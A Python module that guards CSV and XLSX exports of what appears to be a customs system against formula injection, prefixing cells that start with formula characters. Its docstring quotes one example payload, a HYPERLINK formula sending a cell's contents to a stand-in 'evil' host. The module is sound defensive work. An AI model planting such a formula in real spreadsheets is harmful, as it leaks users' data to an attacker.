"""Spreadsheet exports that cannot carry formulas (CSV/formula injection, OWASP).

A consignee named `=HYPERLINK("http://evil/?"&A1,"点击")` typed by an enterprise must reach a customs
officer's Excel as that text, never as a formula. Every text cell starting with = + - @ or a tab or
carriage return is written as text: CSV cells get a leading apostrophe (what Excel itself shows for a
quoted text), XLSX cells are stored as strings with Excel's quotePrefix style. Numbers, dates and
booleans are left as they are.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    """Whether a spreadsheet would read this cell as a formula (or strip its start)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """The value as written into a CSV cell: formula-like text prefixed with an apostrophe."""
    return "'" + value if is_formula_like(value) else value


def append_xlsx_row(sheet, values) -> None:
    """Append a row to an openpyxl sheet, every formula-like text stored as a plain string."""
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if is_formula_like(cell.value) or cell.data_type == "f":
            cell.data_type = "s"
            cell.quotePrefix = True


def _header_label(column: dict) -> str:
    return f"{column['zh']} {column['en']}"


def tables_csv(title: str, filter_lines, tables) -> bytes:
    """Tables ({title_zh, title_en, columns, rows}) as one CSV: the title and filters first, then each
    table under its own title line. UTF-8 with a byte-order mark, so Excel reads the Chinese."""
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(title)])
    for label, value in filter_lines:
        writer.writerow([csv_cell(label), csv_cell(value)])
    for table in tables:
        writer.writerow([])
        writer.writerow([csv_cell(f"{table['title_zh']} {table['title_en']}")])
        writer.writerow([_header_label(column) for column in table["columns"]])
        for row in table["rows"]:
            writer.writerow([csv_cell(_plain(row.get(column["key"]))) for column in table["columns"]])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def tables_xlsx(title: str, filter_lines, tables) -> bytes:
    """The same tables as a workbook: a 筛选条件 sheet with the title and filters, then one sheet per
    table (its header row frozen); figures stay numbers."""
    import io

    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "筛选条件 filters"
    append_xlsx_row(sheet, [title])
    for label, value in filter_lines:
        append_xlsx_row(sheet, [label, value])
    sheet.column_dimensions["A"].width = 28
    sheet.column_dimensions["B"].width = 40
    for table in tables:
        sheet = workbook.create_sheet(table["name"][:31])
        append_xlsx_row(sheet, [_header_label(column) for column in table["columns"]])
        for row in table["rows"]:
            append_xlsx_row(sheet, [_plain(row.get(column["key"])) for column in table["columns"]])
        sheet.freeze_panes = "A2"
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def _plain(value):
    return "" if value is None else value
